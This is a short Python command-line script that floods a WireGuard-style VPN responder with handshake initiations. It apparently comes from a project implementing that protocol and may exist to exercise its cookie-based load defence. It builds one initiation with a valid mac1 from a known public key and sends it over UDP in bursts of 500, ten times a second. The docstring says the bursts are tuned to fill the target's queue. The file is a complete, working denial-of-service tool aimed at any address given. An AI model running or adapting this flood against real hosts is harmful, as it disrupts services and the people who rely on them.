"""A stranger who knows a public key, and keeps its owner busy with initiations whose mac1 is right.

    flood.py ADDRESS PORT SUITE PUBLIC-KEY SECONDS

Sends 500 at once, ten times a second: short bursts fill a responder's queue without taking all of the machine.
"""

import base64
import os
import socket
import sys
import time

from ipop.ports import crypto
from ipop.wg import messages
from ipop.wg.cookie import CookieJar
from ipop.wg.noise import Initiator
from ipop.wg.peer import PROLOGUE
from ipop.wg.suites import suites

BURST, EVERY = 500, 0.1


def initiation(suite, remote):
    noise = Initiator(suite, crypto, os.urandom(32), remote, bytes(32), PROLOGUE)
    message = messages.initiation(suite, 1, noise.write(os.urandom(32), os.urandom(12)))
    return CookieJar(suite, crypto, remote).sign(message, 0)


def main(address, port, suite, key, seconds):
    message = initiation(suites(crypto)[suite], base64.b64decode(key))
    end = time.monotonic() + float(seconds)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        while time.monotonic() < end:
            for _ in range(BURST):
                udp.sendto(message, (address, int(port)))
            time.sleep(EVERY)


main(*sys.argv[1:])
